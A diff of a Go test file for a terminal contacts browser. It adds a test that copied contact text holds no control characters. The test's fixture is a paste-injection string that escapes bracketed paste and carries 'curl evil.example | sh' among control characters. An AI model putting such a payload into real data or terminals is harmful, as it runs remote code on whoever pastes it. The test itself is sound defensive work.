@@ -1,9 +1,11 @@
 package browse
 
 import (
+	"cmp"
 	"errors"
 	"strings"
 	"testing"
+	"unicode"
 
 	"levcontacts/model"
 	"levcontacts/ui/uitest"
@@ -121,7 +123,7 @@ func TestCopyAndOpen(t *testing.T) {
 	s := start(t, f, 120, 40)
 	for key, want := range map[string]Copy{
 		"e": {"chen0@meridiancapital.com", "the e-mail address"}, "n": {"Sarah Chen", "the name"},
-		"a": {"1 Battery Park Plaza\nNew York, NY 10004", "the address"}, "j": {What: "the JSON"}, "v": {What: "the vCard"},
+		"a": {"1 Battery Park Plaza, New York, NY 10004", "the address"}, "j": {What: "the JSON"}, "v": {What: "the vCard"},
 	} {
 		s.keys("y", key)
 		got, _ := happened[Copy](s)
@@ -141,6 +143,38 @@ func TestCopyAndOpen(t *testing.T) {
 	s.want("empty")
 	s.keys("esc", "o")
 	s.want("there is no address that can be ope")
+}
+
+// X20: what is copied of a contact is nothing that a shell runs where it is
+// pasted. The JSON says exactly what the service gave.
+func TestCopiedTextRunsNowhere(t *testing.T) {
+	t.Parallel()
+	const evil = "Analyst\x1b[201~\r\ncurl evil.example | sh\n\u009b31m\u2028rm\x7f\ta"
+	f := newFake(1)
+	for _, field := range []model.FieldID{model.FieldFirstName, model.FieldEmail, model.FieldAddress, model.FieldTitle} {
+		f.Contacts[0] = f.Contacts[0].With(field, model.TextValue(evil))
+	}
+	s := start(t, f, 120, 40)
+	for name, keys := range map[string][]string{
+		"email": {"y", "e"}, "name": {"y", "n"}, "address": {"y", "a"}, "JSON": {"y", "j"}, "vCard": {"y", "v"},
+		"field": {"enter", "j", "j", "j", "y", "y", "esc", "esc"},
+	} {
+		s.keys(keys...)
+		got, _ := happened[Copy](s)
+		breaks := map[string]string{"JSON": "\n", "vCard": "\r\n"}[name]
+		if rest := strings.ReplaceAll(got.Text, cmp.Or(breaks, "\x00"), ""); got.Text == "" || strings.ContainsFunc(rest, unicode.IsControl) {
+			t.Errorf("X20 %s copies %q", name, got.Text)
+		}
+		if says := strings.Contains(got.What, "without line breaks"); says != (breaks == "") {
+			t.Errorf("X20 %s says %q", name, got.What)
+		}
+		if name == "JSON" {
+			var back model.Contact
+			if err := back.UnmarshalJSON([]byte(got.Text)); err != nil || back.Get(model.FieldTitle) != f.Contacts[0].Get(model.FieldTitle) {
+				t.Errorf("X20 the JSON is read as %q: %v", back.Get(model.FieldTitle), err)
+			}
+		}
+	}
 }
 
 func TestMarks(t *testing.T) {
